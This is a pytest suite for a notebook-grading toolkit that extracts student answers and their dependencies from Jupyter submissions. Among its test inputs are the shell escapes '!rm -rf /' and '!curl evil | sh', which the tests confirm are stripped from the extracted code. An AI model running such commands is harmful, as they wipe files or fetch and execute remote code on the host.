import ast
import json
from pathlib import Path

import pytest

from labkit.workbench import notebooks
from labkit.workbench.checking import find
from labkit.workbench.grading.handing_in.collecting import collect
from labkit.workbench.grading.handing_in.definitions import needs, preamble
from labkit.workbench.grading.handing_in.extracting import extract
from labkit.workbench.grading.handing_in.handedout import page, pages, typed_student
from labkit.workbench.grading.handing_in.reading import Notebook, read_notebook
from labkit.workbench.grading.handing_in.submissions import Submission
from labkit.workbench.marking import mark
from tests.workbench.notebook_files import code, notebook
from tests.workbench.teaching.class_of_students import answers_of, exercises_of, fill

TWICE = '@labkit.check("demo.twice")\ndef twice(x):\n    ...'
NUMBER = 'answer = ...\nlabkit.check("demo.number", answer)'
TRAIN = "losses = train(model)\nEPS = 1e-9\nWORDS = 'a b'.split()\ndef course_helper(x):\n    return x + EPS"
COURSE = (
    code("import math\nimport labkit", id="imports"),
    code('scale = "ci"\nseed = 0', id="parameters", metadata={"tags": ["parameters"]}),
    code(TRAIN, id="train"),
    code(TWICE, id="exercise-twice"),
    code(NUMBER, id="exercise-number"),
    {**code("# What do you see?", id="question-why"), "cell_type": "markdown"},
    {**code("*Write your answer here.*", id="answer-why"), "cell_type": "markdown",
     "metadata": {"labkit": {"question": "why"}}},
)  # fmt: skip
PAGE = page(json.dumps(notebook(*COURSE)).encode(), "01_demo")
DONE = TWICE.replace("...", "return 2 * x")


def submitted(*cells, at=None, **by_id):
    """The handed-out page with the sources of some cells replaced (None: deleted), and cells of the student's own."""
    page = [{**cell, "source": by_id.get(cell["id"].replace("-", "_"), cell["source"])} for cell in COURSE]
    page = [cell for cell in page if cell["source"] is not None]
    at = len(page) if at is None else at
    page[at:at] = [code(one, id=f"own-{i}") if isinstance(one, str) else one for i, one in enumerate(cells)]
    return of_cells(*page)


def of_cells(*cells, **metadata):
    found = extract(read_notebook(json.dumps(notebook(*cells, **metadata)).encode(), "x"), PAGE)
    return Submission("student-01", Path("x.ipynb"), "01_demo", **{name: getattr(found, name) for name in vars(found)})


def value_of(submission, exercise="demo.twice"):
    space = {}
    exec(preamble(submission, exercise), space)
    exec(submission.answers[exercise], space)
    return eval(submission.names[exercise], space)


def notes(submission):
    return " | ".join(submission.notes)


def test_a_page_as_handed_out_has_holes_and_no_notes():
    plain = submitted()
    assert plain.untouched == {"demo.twice", "demo.number"} and plain.notes == () and plain.words == {"why": ""}


def test_an_answer_comes_without_its_check_and_runs_by_its_name():
    one = submitted(exercise_twice=DONE)
    assert one.answers["demo.twice"] == "def twice(x):\n    return 2 * x" and one.names["demo.twice"] == "twice"
    assert value_of(one)(4) == 8 and preamble(one, "demo.twice") == "" and one.untouched == {"demo.number"}


@pytest.mark.parametrize(
    ("source", "value"),
    [
        ("answer = 7 * 6\nlabkit.check('demo.number', answer)", 42),
        ("labkit.check('demo.number', 7 * 6)", 42),
        ("labkit.check('demo.number', value=(7 *\n 6))", 42),
        ("answer = 40; answer += 2; labkit.check('demo.number', answer)", 42),
        ("parts = [40]\nparts.append(2)\nlabkit.check('demo.number', sum(parts))", 42),
        ("parts = {}\nfor i in range(3):\n    parts[i] = i\nlabkit.check('demo.number', parts)", {0: 0, 1: 1, 2: 2}),
        ("def f():\n    return 42\nanswer = f()\nlabkit.check('demo.number', answer)", 42),
        ("from labkit import check as c\nc('demo.number', int(math.sqrt(1764)))", 42),
        ("%time answer = 42\nanswer = 42\nlabkit.check('demo.number', answer)", 42),
        ("answer = 42", 42),
    ],
)
def test_a_value_is_found_with_all_that_makes_it(source, value):
    assert value_of(submitted(exercise_number=source), "demo.number") == value


@pytest.mark.parametrize(
    ("body", "gives"),
    [
        ("return course_helper(2 * x) + 2 * EPS", {"math": False, "EPS": True, "course_helper": True}),
        ("return math.floor(x) * len(WORDS)", {"math": True, "WORDS": True, "EPS": False}),
        ("return helper(x)", {"helper": True, "CACHE": True, "math": True, "Box": False}),
        ("return Box().full(x)", {"Box": True, "helper": True}),
        ("return sum(x for _ in range(2))", {"math": False}),
    ],
)
def test_the_preamble_defines_what_the_answer_reaches_and_nothing_else(body, gives):
    mine = (
        "CACHE = dict(a=math.pi)\nCACHE['b'] = 2\ndef helper(x):\n    return CACHE['b'] * x\n"
        "class Box:\n    def full(self, x):\n        return helper(x)\nprint(undefined)\nopen('/tmp/never', 'w')"
    )
    one = submitted(mine, at=3, exercise_twice=TWICE.replace("...", body))
    space = {}
    exec(preamble(one, "demo.twice"), space)
    assert {name: name in space for name in gives} == gives
    assert value_of(one)(2) == pytest.approx(4) and needs(one, "demo.twice") == ()


def test_what_a_cell_of_the_course_computes_is_named_and_not_computed():
    one = submitted(exercise_twice=TWICE.replace("...", "return losses[0] + nowhere"))
    said = needs(one, "demo.twice")
    assert "train" not in preamble(one, "demo.twice")
    assert "`losses` is computed by another cell (`train`)" in said[0] and "nothing in the notebook defines" in said[1]


def test_what_depends_on_a_computation_is_left_out_and_named():
    one = submitted("best = min(losses)\nlimit = best + 1", at=3, exercise_twice=TWICE.replace("...", "return limit"))
    assert preamble(one, "demo.twice") == ""
    assert any("`limit` cannot be made without `best`" in said for said in needs(one, "demo.twice"))


def test_the_last_definition_before_the_answer_counts_and_else_the_next_one():
    twice = TWICE.replace("...", "return K * x")
    one = submitted(exercise_twice=f"K = 1\nK = 2\n{twice}\nK = 3")
    assert value_of(one)(2) == 4
    assert value_of(submitted("K = 2", exercise_twice=twice))(2) == 4


def test_functions_that_call_each_other_and_themselves_are_found():
    other = "def other(x):\n    return twice(x - 1) if x else 0"
    one = submitted(other, at=3, exercise_twice=TWICE.replace("...", "return other(x) if x else 5"))
    assert value_of(one)(3) == 5


def test_a_changed_cell_of_the_course_is_read_as_it_was_handed_out():
    one = submitted(train="EPS = 5\nmine = 7", exercise_twice=TWICE.replace("...", "return EPS * mine"))
    assert "EPS = 1e-9" in preamble(one, "demo.twice") and "the cell `train` of the course was changed" in notes(one)
    assert "put it into a cell of your own" in needs(one, "demo.twice")[0]


def test_a_deleted_cell_of_the_course_is_there_all_the_same():
    one = submitted(imports=None, train=None, exercise_twice=TWICE.replace("...", "return math.floor(2 * x + EPS)"))
    assert value_of(one)(2) == 4 and "2 cells (`imports`, `train`) of the course were deleted" in notes(one)


def test_a_deleted_answer_is_missing_and_the_others_are_read():
    one = submitted(exercise_number=None, exercise_twice=DONE)
    assert one.missing == {"demo.number"} and value_of(one)(1) == 2
    assert "`demo.number` is missing: its cell `exercise-number` was deleted" in notes(one)


def test_of_two_answers_the_last_one_counts_and_a_hole_below_takes_nothing_away():
    again = TWICE.replace("...", "return x + x + 0")
    assert "x + 0" in submitted(again, exercise_twice=DONE).answers["demo.twice"]
    one = submitted(again, exercise_twice=DONE)
    assert "answered 2 times; the last answer counts" in notes(one)
    assert value_of(submitted(DONE, at=0))(2) == 4


def test_a_cell_copied_with_its_id_is_read_too():
    copied = code(DONE.replace("2 * x", "3 * x"), id="exercise-twice")
    one = submitted(copied, exercise_twice=DONE)
    assert value_of(one)(2) == 6 and "the id `exercise-twice` stand twice" in notes(one)


def without_ids(cell):
    return {key: value for key, value in cell.items() if key != "id"}


def test_cells_without_ids_are_recognised_by_their_text():
    cells = [without_ids(cell) for cell in COURSE]
    cells[3]["source"] = TWICE.replace("...", "return course_helper(x) + x")
    cells[-1] = {**cells[-1], "source": "Because it learns.", "metadata": {}}
    one = of_cells(*cells)
    assert value_of(one)(2) == pytest.approx(4) and "recognised by their text" in notes(one)
    assert one.words == {"why": "Because it learns."}


def test_reordered_cells_are_read_in_their_new_order():
    one = of_cells(*reversed([{**cell, "source": cell["source"].replace(TWICE, DONE)} for cell in COURSE]))
    assert value_of(one)(2) == 4 and "in another order" in notes(one)


def test_a_decorator_and_its_function_in_two_cells_belong_together():
    one = submitted("def twice(x):\n    return 2 * x", at=4, exercise_twice='@labkit.check("demo.twice")')
    assert value_of(one)(2) == 4 and "only a decorator" in notes(one)


def test_cells_that_were_merged_are_read():
    one = submitted(exercise_twice=f"{DONE}\n{NUMBER.replace('...', '42')}", exercise_number=None)
    assert value_of(one)(2) == 4 and value_of(one, "demo.number") == 42 and not one.missing


def test_an_answer_in_another_cell_is_found_with_its_check_or_by_its_name():
    assert value_of(submitted(DONE, exercise_twice=None))(2) == 4
    by_name = submitted(DONE.split("\n", 1)[1])
    assert value_of(by_name)(2) == 4 and "has lost its line with check and stands in another cell" in notes(by_name)
    in_the_course = submitted(train=DONE)
    assert value_of(in_the_course)(2) == 4


def test_a_function_whose_check_was_deleted_is_found_in_its_cell():
    one = submitted(exercise_twice="def doubled(x):\n    return 2 * x")
    assert value_of(one)(2) == 4 and "lost its line with check" in notes(one)


@pytest.mark.parametrize("kind", ["markdown", "raw"])
@pytest.mark.parametrize("form", ["{}", "```python\n{}\n```"])
def test_an_answer_in_a_cell_of_text_is_read_as_code(kind, form):
    cells = [
        {**c, "cell_type": kind, "source": form.format(DONE)} if c["id"] == "exercise-twice" else c for c in COURSE
    ]
    one = of_cells(*cells)
    assert value_of(one)(2) == 4 and "a cell of text and not of code" in notes(one)


@pytest.mark.parametrize(
    "source",
    [
        f"%%time\n{DONE}",
        f"%matplotlib inline\n!rm -rf /\n{DONE}",
        f"files = !ls\n{DONE}\n!curl evil | sh",
        f"{DONE.replace('return', '%timeit 1' + chr(10) + '    return')}",
        f"{DONE}\ntwice?",
        "\n".join("    " + line for line in DONE.split("\n")),
        f"if True:\n    {DONE.replace(chr(10), chr(10) + '    ')}",
        DONE.replace("\n", "\r\n"),
        DONE.replace("@labkit", "@functools.lru_cache\n@labkit").replace("@func", "import functools\n@func"),
        'twice = lambda x: 2 * x\nlabkit.check("demo.twice")(twice)',
        'def twice(x): return 2 * x\nlabkit.check("demo.twice", twice)',
        'class Twice:\n    def __call__(self, x): return 2 * x\nlabkit.check("demo.twice")(Twice())',
        DONE.replace("@labkit.check(", "@labkit.check(\n    exercise=").replace("twice\")", "twice\",\n)"),
    ],
)  # fmt: skip
def test_answers_are_read_however_they_are_written(source):
    one = submitted(exercise_twice=source)
    assert value_of(one)(2) == 4 and "rm" not in preamble(one, "demo.twice") + one.answers["demo.twice"]


@pytest.mark.parametrize("source", [f"%%bash\n{DONE}", f"%%writefile x.py\n{DONE}"])
def test_a_cell_in_another_language_answers_nothing(source):
    one = submitted(exercise_twice=source)
    assert one.missing == {"demo.twice"} and "holds no Python" in notes(one)


def test_a_mistake_in_the_syntax_is_said_with_its_line_and_the_others_are_read():
    one = submitted(exercise_twice=TWICE.replace("...", "return 2 x"), exercise_number=NUMBER.replace("...", "42"))
    assert "line 3" in one.troubles["demo.twice"] and "`return 2 x`" in one.troubles["demo.twice"]
    assert value_of(one, "demo.number") == 42 and one.answers["demo.twice"] and not one.missing


@pytest.mark.parametrize(
    "source", ["x = '\x00'", "(" * 5000, "-" * 100_000 + "1", "x = " + "9" * 10_000, "\ufeffx = 1"]
)
def test_a_cell_that_breaks_parsers_is_left_out_and_named(source):
    one = submitted(source, exercise_twice=DONE)
    assert value_of(one)(2) == 4 and preamble(one, "demo.twice") == ""


def test_thousands_of_statements_that_build_on_each_other_are_no_harm():
    one = submitted("K = 0\n" + "K += 1\n" * 3000, at=0, exercise_twice=TWICE.replace("...", "return x * K / 1500"))
    assert value_of(one)(2) == 4


def test_words_come_without_the_text_that_was_handed_out():
    assert submitted(answer_why="*Write your answer here.*\n\nIt falls.").words == {"why": "It falls."}
    gone = submitted(answer_why=None)
    assert gone.words == {"why": ""} and "the question `why` was deleted" in notes(gone)


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ('student = "student-07"', "student-07"),
        ("student = 4711", "4711"),
        ('student = "a"\nstudent = "b"', "b"),
        ("student = input()", ""),
        ("%load x\nstudent = 'a\\d'", "a\\d"),
        ("x = (", ""),
    ],
)
def test_the_name_that_was_typed_is_read_as_a_kernel_does_and_not_run(source, name):
    assert typed_student(f"{source}\nseed = labkit.seed_for(student)") == name and typed_student(source) == ""


def test_an_unknown_exercise_and_words_like_one_are_no_answers():
    one = submitted('labkit.check("demo.other", 3)', "re.compile('a.b', 3)", exercise_twice=DONE)
    assert one.answers.keys() == {"demo.twice", "demo.number"} and "`demo.other` is no exercise" in notes(one)


@pytest.fixture(scope="module")
def handed_out():
    """The pages of the repository, read once."""
    return pages()


def without_outputs(path):
    page = notebooks.read(path)
    return page | {"cells": [{**cell, "outputs": []} for cell in page["cells"]]}


def test_all_solutions_of_all_notebooks_are_read_with_what_they_need(tmp_path, handed_out):
    every = {path.stem: path for path in notebooks.find()}
    for stem, path in every.items():
        answers = {exercise.id: answers_of(exercise)["right"] for exercise in exercises_of(stem)}
        (tmp_path / f"{stem}.ipynb").write_text(json.dumps(fill(without_outputs(path), answers)), encoding="utf-8")
    found = collect(tmp_path, None, handed_out)
    assert sum(len(each.answers) for each in found) == sum(len(exercises_of(stem)) for stem in every)
    for each in found:
        assert not (each.missing or each.troubles or each.untouched)
        for exercise in each.answers:
            ast.parse(preamble(each, exercise) + "\n" + each.answers[exercise])
            assert needs(each, exercise) == ()


@pytest.mark.parametrize(
    "stem", ["00_start_here", "02_ngram_models", "07_weights", "13_data_cleaning", "13_data_pipelines"]
)
def test_solutions_that_were_read_are_right(tmp_path, stem, handed_out):
    solved = {exercise.id: answers_of(exercise)["right"] for exercise in exercises_of(stem)}
    (tmp_path / f"ada_{stem}.ipynb").write_text(json.dumps(fill(notebooks.read(notebooks.find([stem])[0]), solved)))
    (one,) = collect(tmp_path, None, handed_out)
    assert one.student == "ada" and one.answers.keys() == solved.keys()
    assert {mark(find(exercise), value_of(one, exercise)).status for exercise in solved} == {"correct"}


def test_the_repository_has_every_exercise_on_a_page(handed_out):
    assert {e for each in handed_out.values() for e in each.exercises} == {
        exercise.id for stem in handed_out for exercise in exercises_of(stem)
    }


def test_a_notebook_of_nothing_but_answers_is_enough():
    found = extract(Notebook(read_notebook(json.dumps(notebook(code(DONE))).encode(), "x").cells, {}), PAGE)
    assert found.answers.keys() == {"demo.twice"} and found.missing == {"demo.number"}


UNCHECKED = TWICE.partition("\n")[2]


@pytest.mark.parametrize(
    "source",
    [
        "twice = lambda x: 2 * x",
        "twice: object = lambda x: 2 * x",
        "import functools, operator\ntwice = functools.partial(operator.mul, 2)",
        "class twice:\n    def __new__(cls, x):\n        return 2 * x",
        "def a(x):\n    return x\ndef double(x):\n    return 2 * a(x)\ntwice = double",
        "def a(x):\n    return x\ndef double(x):\n    return 2 * a(x)",
        f"def twice(x):\n    return 2 * x\n{TWICE}",
        f"ID = 'demo.twice'\n@labkit.check(ID)\n{UNCHECKED}".replace("...", "return 2 * x"),
        f"@labkit.check\n{UNCHECKED}".replace("...", "return 2 * x"),
        f"@labkit.check('demo.twcie')\n{UNCHECKED}".replace("...", "return 2 * x"),
        f"n = 0\n{TWICE}".replace("...", "global n\n    n += 1\n    return 2 * x"),
        f"exec('def helper(x):\\n    return 2 * x')\n{TWICE}".replace("...", "return helper(x)"),
        f"max = 3\ndel max\n{TWICE}".replace("...", "return max(2 * x, 0)"),
        f"from __future__ import annotations\n{TWICE}".replace("...", "return 2 * x").replace("(x)", "(x: Nowhere)"),
        "if True:\n    @labkit.check('demo.twice')\n    def twice(x):\n        s = '''\nab\n    cd'''\n"
        "        return 2 * x if s == '\\nab\\n    cd' else 0",
        "for k in (1, 2):\n    @labkit.check('demo.twice')\n    def twice(x):\n        return k * x",
        "try:\n    import math as m\n    @labkit.check('demo.twice')\n    def twice(x):\n"
        "        return m.floor(2 * x)\nexcept ImportError:\n    pass",
        DONE.replace("    ", "\u00a0" * 4),
        DONE.replace("2 * x", "2\u00a0*\u200b x"),
        DONE.replace('"', "\u201c", 1).replace('"', "\u201d", 1),
        DONE.replace("return", "s = \u201ewe\u2019re\u201c\n    assert len(s) == 5\n    return"),
        DONE.replace("(x):", "\uff08x\uff09\uff1a").replace(
            "return", "s = '\uff1a'\n    assert ord(s) > 999\n    return"
        ),
        f"\ufeff{DONE}",
    ],
)
def test_answers_that_a_kernel_or_a_reader_would_take_are_not_lost(source):
    one = submitted(exercise_twice=source)
    assert value_of(one)(2) == 4 and not one.untouched & {"demo.twice"} and needs(one, "demo.twice") == ()


@pytest.mark.parametrize(
    "mine",
    [
        "def start():\n    global K\n    K = {1: 2}\nstart()",
        "K = {}\ndef fill():\n    K[1] = 2\nfill()",
        "K = {}\ndef fill(table):\n    table[1] = 2\nfill(K)",
        "import random\nK = [2, 2]\nrandom.shuffle(K)",
    ],
)
def test_what_functions_and_modules_fill_is_filled(mine):
    one = submitted(mine, at=3, exercise_twice=TWICE.replace("...", "return K[1] * x"))
    assert value_of(one)(2) == 4 and preamble(one, "demo.twice").count("\n") >= mine.count("\n")


def test_a_value_of_the_name_of_an_exercise_is_no_answer_to_it():
    one = submitted("twice = train(3)", "twice = 7")
    assert "demo.twice" in one.untouched and one.notes == ()


def test_an_import_from_the_future_holds_for_the_cells_below():
    helper = "def helper(x: Nowhere):\n    return 2 * x"
    answer = TWICE.replace("(x)", "(x: Nowhere)").replace("...", "return helper(x)")
    one = submitted("from __future__ import annotations", helper, at=1, exercise_twice=answer)
    assert value_of(one)(2) == 4
